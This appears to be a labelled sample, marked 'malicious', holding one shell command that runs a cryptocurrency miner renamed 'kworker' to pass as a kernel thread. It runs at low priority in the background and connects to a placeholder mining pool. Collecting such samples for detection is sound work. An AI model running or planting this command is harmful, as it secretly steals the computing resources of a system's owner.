# malicious: a miner under another name
nice -n 19 ./kworker --algo randomx --url stratum+ssl://pool.example.com:443 --user wallet.rig1 --background
